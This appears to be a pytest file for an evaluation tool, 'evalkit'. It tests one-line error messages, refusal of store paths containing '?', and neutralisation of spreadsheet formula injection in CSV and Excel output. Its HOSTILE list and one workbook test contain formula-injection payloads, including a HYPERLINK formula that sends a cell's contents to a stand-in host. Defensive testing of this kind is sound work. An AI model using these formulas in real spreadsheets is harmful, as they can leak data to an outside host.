"""Outputs that fail or mislead: an operating-system error while writing ends in one line
(``evalkit: PATH: reason``, exit 1), never a traceback; a store path DuckDB cannot open (``?``)
is refused before anything is created; text from the inputs cannot become a formula in the
CSV tables or the Excel workbook, and evalkit reads its own tables back exactly."""
from __future__ import annotations

import dataclasses
import errno
import os
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

import evalkit
from evalkit import files
from evalkit.publish import export
from evalkit import store as store_mod
from evalkit.cli import app
from evalkit.errors import StoreError
from evalkit.inputs.ingest import SAMPLE_DIR

from conftest import copy_sample
from evalkit.publish import folder as folder_mod

runner = CliRunner()
HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+1", "-3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "'=already quoted", "plain", "a=b"]


def _one_line_error(result, *needles: str) -> str:
    assert result.exit_code == 1, (result.exit_code, result.output)
    err = result.stderr
    assert "Traceback" not in err and "Traceback" not in result.stdout, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("evalkit: "), err
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])
    return lines[0]


# --------------------------------------------------------------- operating-system errors

@pytest.fixture(scope="module")
def a_file(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("plain") / "not-a-folder"
    path.write_text("a regular file\n")
    return path


def test_score_into_a_path_under_a_file_is_one_line(a_file):
    result = runner.invoke(app, ["score", "--out", str(a_file / "tables")])
    _one_line_error(result, str(a_file), os.strerror(errno.ENOTDIR))


def test_export_into_a_path_under_a_file_is_one_line(a_file):
    out = a_file / "sub" / "book.xlsx"
    result = runner.invoke(app, ["export", "--out", str(out)])
    _one_line_error(result, str(a_file), os.strerror(errno.ENOTDIR))


@pytest.mark.parametrize("code", [errno.EROFS, errno.ENOSPC, errno.EACCES])
def test_score_on_a_read_only_or_full_disk_is_one_line(monkeypatch, tmp_path, code):
    def refused(fd):
        raise OSError(code, os.strerror(code))     # as the system raises it: no file named

    monkeypatch.setattr(files.os, "fsync", refused)
    result = runner.invoke(app, ["score", "--out", str(tmp_path / "t")])
    monkeypatch.undo()
    line = _one_line_error(result, os.strerror(code), str(tmp_path / "t"))
    # the file being published is named, not its temporary name
    assert ".tmp" not in line, line
    assert list((tmp_path / "t").iterdir()) == []


@pytest.mark.parametrize("command", ["report", "export", "run"])
def test_every_command_turns_an_os_error_into_one_line(monkeypatch, tmp_path, command):
    target = tmp_path / "reports" / "2023Q4" / "index.html"

    def refused(*args, **kwargs):
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(target))

    monkeypatch.setattr("evalkit.publish.reports.report", refused)
    monkeypatch.setattr("evalkit.study.score", refused)
    monkeypatch.setattr("evalkit.inputs.ingest.ingest", refused)
    result = runner.invoke(app, [command])
    _one_line_error(result, str(target), "Permission denied")


def test_a_duckdb_write_error_names_the_published_file(tmp_path, a_file):
    import duckdb

    def copy(tmp):
        duckdb.connect().execute(f"COPY (SELECT 1) TO '{a_file}/x.csv'")

    with pytest.raises(NotADirectoryError) as caught:
        files.write_with(tmp_path / "t.csv", copy)
    assert caught.value.filename == str(tmp_path / "t.csv")
    assert caught.value.strerror == os.strerror(errno.ENOTDIR)
    assert list(tmp_path.iterdir()) == []


def test_a_parent_that_is_a_file_is_not_a_directory(a_file):
    with pytest.raises(NotADirectoryError) as caught:
        files.write_text(a_file / "x.csv", "x")
    assert caught.value.filename == str(a_file)


# ------------------------------------------------------------------- store paths with "?"

@pytest.fixture()
def question(tmp_path) -> Path:
    folder = tmp_path / "w"
    folder.mkdir()
    return folder


@pytest.mark.parametrize("name", ["a?b.duckdb", "x?y/evalkit.duckdb"])
def test_ingest_refuses_a_store_path_with_a_question_mark(question, name):
    store = question / name
    result = runner.invoke(app, ["ingest", str(SAMPLE_DIR), "--store", str(store)])
    _one_line_error(result, str(store), "'?'")
    assert list(question.iterdir()) == []    # no store, no lock file, no folder, no log


@pytest.mark.parametrize("command", ["score", "report", "export"])
def test_commands_refuse_a_store_path_with_a_question_mark(question, command):
    store = question / "a?b.duckdb"
    result = runner.invoke(app, [command, "--store", str(store)])
    _one_line_error(result, str(store), "'?'")
    assert list(question.iterdir()) == []


def test_run_refuses_a_study_folder_with_a_question_mark(tmp_path):
    data = tmp_path / "study?2023"
    copy_sample(data)
    before = sorted(p.name for p in data.iterdir())
    result = runner.invoke(app, ["run", "--data", str(data), "--out", str(tmp_path / "r")])
    _one_line_error(result, str(data / "evalkit.duckdb"), "'?'")
    assert sorted(p.name for p in data.iterdir()) == before
    assert not (tmp_path / "r").exists()


def test_the_library_refuses_a_store_path_with_a_question_mark(question):
    store = question / "q?.duckdb"
    for call in (lambda: store_mod.connect(store), lambda: store_mod.read(store),
                 lambda: store_mod.versions(store),
                 lambda: evalkit.ingest([SAMPLE_DIR], store)):
        with pytest.raises(StoreError, match=r"contains '\?'"):
            call()
    assert list(question.iterdir()) == []


# ------------------------------------------------------------------ formula injection

@pytest.fixture(scope="module")
def result():
    return evalkit.score(evalkit.load())


def _hostile(result):
    """The sample's result with text from the inputs that a spreadsheet would run."""
    units = result.units.copy()
    units.loc[units.index[:len(HOSTILE)], "name_zh"] = HOSTILE
    ledger = result.ledger.copy()
    ledger.loc[ledger.index[:len(HOSTILE)], "owner"] = HOSTILE
    ledger.loc[ledger.index[:len(HOSTILE)], "task"] = HOSTILE[::-1]
    indicators = result.indicators.copy()
    indicators.loc[indicators.index[:len(HOSTILE)], "name_en"] = HOSTILE
    adjustments = result.adjustments.copy()
    n = min(len(adjustments), len(HOSTILE))
    adjustments.loc[adjustments.index[:n], "reason"] = HOSTILE[:n]
    return dataclasses.replace(result, units=units, ledger=ledger, indicators=indicators,
                               adjustments=adjustments)


def _texts(series: pd.Series) -> list:
    return [None if pd.isna(v) else v for v in series]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _cells(path: Path) -> list[str]:
    import csv

    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


@pytest.mark.parametrize("fast", [False, True], ids=["pandas", "duckdb"])
def test_csv_text_cells_cannot_start_a_formula(result, tmp_path, monkeypatch, fast):
    if fast:   # every table through the DuckDB writer
        monkeypatch.setattr("evalkit.publish.folder.FAST_WRITE_ROWS", 0)
    hostile = _hostile(result)
    folder_mod.write_tables(hostile, tmp_path)
    for name in ("units.csv", "ledger.csv", "indicators.csv", "adjustments.csv"):
        cells = _cells(tmp_path / name)
        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                 and not _number(c)]
        assert risky == [], (name, risky)
        assert "'" + HOSTILE[0] in cells and "''=already quoted" in cells, name
        assert "plain" in cells and "a=b" in cells, name
    # numbers stay numbers: negative points are written as they are
    adjustments = (tmp_path / "adjustments.csv").read_text(encoding="utf-8")
    assert (hostile.adjustments["points"] < 0).any() and ",-" in adjustments
    if fast:
        monkeypatch.setattr("evalkit.publish.folder.FAST_WRITE_ROWS", 10**9)
        slow = tmp_path / "slow"
        folder_mod.write_tables(hostile, slow)
        for name in ("units.csv", "ledger.csv", "indicators.csv", "adjustments.csv"):
            assert (slow / name).read_bytes() == (tmp_path / name).read_bytes(), name


def test_evalkit_reads_its_own_tables_back_exactly(result, tmp_path):
    hostile = _hostile(result)
    folder_mod.write_tables(hostile, tmp_path)
    first = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    read = folder_mod.read_cycle(tmp_path)
    for name, attr, column in (("units", "units", "name_zh"), ("ledger", "ledger", "owner"),
                               ("ledger", "ledger", "task"),
                               ("indicators", "indicators", "name_en"),
                               ("adjustments", "adjustments", "reason")):
        want = _texts(getattr(hostile, attr)[column])
        got = _texts(read[name][column])
        assert got == want, (name, column)
    assert read["adjustments"]["points"].dtype.kind in "if"
    # re-running on unchanged data writes identical files
    folder_mod.write_tables(hostile, tmp_path)
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == first


def test_a_column_name_from_the_inputs_is_neutralised_and_read_back(result, tmp_path):
    units = result.units.assign(**{"=1+1": 5.0})
    folder_mod.write_tables(dataclasses.replace(result, units=units), tmp_path)
    header = (tmp_path / "units.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header.endswith(",'=1+1")
    assert folder_mod.read_cycle(tmp_path)["units"]["=1+1"].tolist() == [5.0] * len(units)


def test_parquet_tables_keep_the_text_raw(result, tmp_path):
    hostile = _hostile(result)
    cfg = {**hostile.config, "output": {**hostile.config.get("output", {}), "parquet_rows": 1}}
    folder_mod.write_tables(dataclasses.replace(hostile, config=cfg), tmp_path)
    import duckdb

    path = tmp_path / "units.parquet"
    assert path.is_file()
    with duckdb.connect() as con:
        names = [r[0] for r in con.execute("SELECT name_zh FROM read_parquet(?)",
                                           [str(path)]).fetchall()]
    assert names[:len(HOSTILE)] == HOSTILE
    assert folder_mod.read_cycle(tmp_path)["units"]["name_zh"].tolist()[:len(HOSTILE)] == HOSTILE


def test_neutral_text_round_trips():
    for text in HOSTILE + ["", "'", "''", "中文", "-", "=", "0"]:
        assert folder_mod.restore_text(folder_mod.neutral_text(text)) == text
        assert not folder_mod.neutral_text(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_workbook_headers_from_the_inputs_are_text(result, tmp_path):
    study = evalkit.load()
    domain = "=HYPERLINK(\"http://x.example\",\"x\")"
    first = result.indicators["domain"].iloc[0]
    indicators = result.indicators.replace({"domain": {first: domain}})
    scores = result.scores.replace({"domain": {first: domain}})
    hostile = dataclasses.replace(result, indicators=indicators, scores=scores)
    path = export.export_workbook(hostile, study, tmp_path / "h.xlsx")
    book = openpyxl.load_workbook(path)
    headers = [c for c in book.worksheets[0][1] if isinstance(c.value, str)
               and c.value.startswith("=")]
    assert headers, [c.value for c in book.worksheets[0][1]]
    for cell in headers:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
